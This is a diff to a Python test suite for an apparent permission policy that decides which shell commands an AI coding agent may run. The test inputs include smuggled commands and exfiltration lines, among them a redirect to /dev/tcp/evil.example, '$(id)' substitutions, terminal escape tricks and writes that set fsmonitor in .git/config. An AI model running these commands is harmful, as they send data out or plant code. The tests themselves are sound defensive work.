@@ -81,7 +81,8 @@ def test_deny_rules_see_commands_hidden_in_substitutions_and_sh_c(ws: Workspace)
     "git status <(touch f)", "git status > /tmp/outside", "eval git status", "sh -c 'git status'",
     "bash -lc 'git status'", "FOO=1 git status", "git status; $(echo rm) x", "git statusx",
     "git status 'unterminated", "if true; then git status; fi", "git status > \"$HOME/x\"",
-    "git status $((x[$(id)]))", "touch PWNED # \r\x1b[2Kls -la",
+    "git status $((x[$(id)]))", "touch PWNED # \r\x1b[2Kls -la", "git status 2>/dev/tcp/evil.example/80",
+    "git status > *.txt",
 ])
 def test_prefix_rules_do_not_approve_compound_commands(command: str, ws: Workspace) -> None:
     p = policy(allow=["Bash(git status:*)"])
@@ -121,6 +122,10 @@ def test_protected_paths_through_a_symlink_and_shell_redirections(ws: Workspace)
     assert decide(p, B, ws, command="echo '[core] fsmonitor = x' >> .git/config") == "ask"
     assert decide(policy("dontAsk"), B, ws, command="echo x >> .git/config") == "deny"
     assert decide(p, B, ws, command="echo x >> notes.txt") == "allow"
+    # After a cd, a relative target is somewhere else: never approved by rules.
+    q = policy("acceptEdits", allow=["Bash(echo:*)", "Bash(cd:*)"])
+    assert decide(q, B, ws, command="cd .git && echo '[core]' >> config") == "ask"
+    assert decide(q, B, ws, command="cd sub && echo hi") == "allow"
 
 
 def test_an_explicit_rule_from_trusted_settings_unlocks_a_protected_path(ws: Workspace) -> None:
